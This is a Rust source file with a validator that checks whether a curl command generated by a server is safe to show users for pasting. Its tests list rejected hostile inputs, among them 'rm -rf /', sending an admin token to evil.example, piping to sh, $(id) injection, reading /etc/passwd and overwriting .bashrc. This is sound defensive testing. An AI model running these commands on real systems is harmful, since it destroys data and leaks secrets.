//! Commands that a server wrote, to be pasted by people who trust the doctor. Shown is what our own server writes, and nothing
//! that does more: one curl, to that server, with what stands in the command and in the variables that the reference names.

use reqwest::Url;

/// Whether a command can be shown as what to paste.
pub fn is_harmless(command: &str, server: &Url) -> bool {
    let Some(words) = words(command) else { return false };
    let [curl, arguments @ ..] = words.as_slice() else { return false };
    let mut addresses = 0;
    let mut arguments = arguments.iter();
    while let Some(argument) = arguments.next() {
        match argument.as_str() {
            "-sS" | "-G" => {}
            // The address that the parameters make, and nothing that a server says.
            "-w" if arguments.next().is_some_and(|format| format == "%{url_effective}\\n") => {}
            // What begins with `@`, or has it behind a name, is read from a file.
            "-d" | "--data-urlencode" | "-H" | "-u" | "-X" => {
                let Some(value) = arguments.next() else { return false };
                let is_file = value.starts_with('@') || (argument == "--data-urlencode" && !value.contains('='));
                if is_file {
                    return false;
                }
            }
            address => {
                addresses += 1;
                if !Url::parse(address).is_ok_and(|url| url.origin() == server.origin()) {
                    return false;
                }
            }
        }
    }
    curl == "curl" && addresses == 1
}

/// The words of a command, as a POSIX shell takes it apart, with variables as they are written. None where the shell would do
/// anything else.
fn words(command: &str) -> Option<Vec<String>> {
    let mut words = vec![];
    let mut word: Option<String> = None;
    let mut quote = None;
    let mut rest = command;
    while let Some(c) = rest.chars().next() {
        let after = &rest[c.len_utf8()..];
        rest = after;
        match (quote, c) {
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('\''), _) => word.get_or_insert_default().push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                word.get_or_insert_default();
            }
            (_, '$') => {
                let name = VARIABLES.iter().find(|name| after.starts_with(*name))?;
                let next = after[name.len()..].chars().next();
                if next.is_some_and(|next| next.is_ascii_alphanumeric() || next == '_') {
                    return None;
                }
                word.get_or_insert_default().push('$');
            }
            // `'\''` is how a quote gets into quotes.
            (None, '\\') => {
                rest = after.strip_prefix('\'')?;
                word.get_or_insert_default().push('\'');
            }
            (_, '`' | '\\') => return None,
            (Some(_), _) => word.get_or_insert_default().push(c),
            (None, ' ') => words.extend(word.take()),
            (None, _) if c.is_ascii_alphanumeric() || "-_.:/=@,%+".contains(c) => word.get_or_insert_default().push(c),
            (None, _) => return None,
        }
    }
    words.extend(word);
    if quote.is_none() { Some(words) } else { None }
}

/// docs/reference/cli.md has these for people.
const VARIABLES: [&str; 6] = ["ADMIN_TOKEN", "CLIENT_SECRET", "CLIENT_ASSERTION", "TENANT", "API", "CODE_CHALLENGE"];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_our_server_writes_is_shown_and_nothing_that_does_more() {
        let server = Url::parse("https://as.example/tenants/acme").expect("a URL");
        for good in [
            "curl -sS -X POST https://as.example/api/v1/admin/applications/x/allowed_scopes -H \"Authorization: Bearer $ADMIN_TOKEN\" \
             -H 'Content-Type: application/json' -d '{\"scope\":\"admin:read\"}'",
            "curl -sS https://as.example/connect/token -u 'a b':\"$CLIENT_SECRET\" -d grant_type=client_credentials \
             --data-urlencode scope=admin:read -d tenant=\"$TENANT\"",
            "curl -sS -G https://as.example/api/v1/admin/scopes --data-urlencode api=https://x.example",
            "curl -sS -G -w '%{url_effective}\\n' https://as.example/connect/authorize -d code_challenge=\"$CODE_CHALLENGE\"",
            r#"curl -sS -X POST https://as.example/s -d '{"api":"'"$API"'","title":"it'\''s $(id)"}'"#,
        ] {
            assert!(is_harmless(good, &server), "{good}");
        }
        for bad in [
            "rm -rf /",
            "",
            "curl -sS",
            "curl -sS https://evil.example/ -d \"$ADMIN_TOKEN\"",
            "curl -sS http://as.example/",
            "curl -sS https://as.example/ https://evil.example/",
            "curl -sS https://as.example/; id",
            "curl -sS https://as.example/ | sh",
            "curl -sS https://as.example/ && id",
            "curl -sS https://as.example/\nid",
            "curl -sS https://as.example/ -d $(id)",
            "curl -sS https://as.example/ -d \"$(id)\"",
            "curl -sS https://as.example/ -d \"`id`\"",
            "curl -sS https://as.example/ -d `id`",
            "curl -sS https://as.example/ -d $HOME",
            "curl -sS https://as.example/ -d $APIS",
            "curl -sS https://as.example/ -d @/etc/passwd",
            "curl -sS https://as.example/ -d '@/etc/passwd'",
            "curl -sS https://as.example/ --data-urlencode x@/etc/passwd",
            "curl -sS https://as.example/ -o .bashrc",
            "curl -sS https://as.example/ -K x",
            "curl -sS -w @/etc/passwd https://as.example/",
            "curl -sS -w '%output{.bashrc}x' https://as.example/",
            "curl -sS https://as.example/ -w",
            "curl -sS https://as.example/ > .bashrc",
            "curl -sS https://as.example/ -d 'x",
            "curl -sS https://as.example/ -d x\\\nid",
        ] {
            assert!(!is_harmless(bad, &server), "{bad}");
        }
    }
}
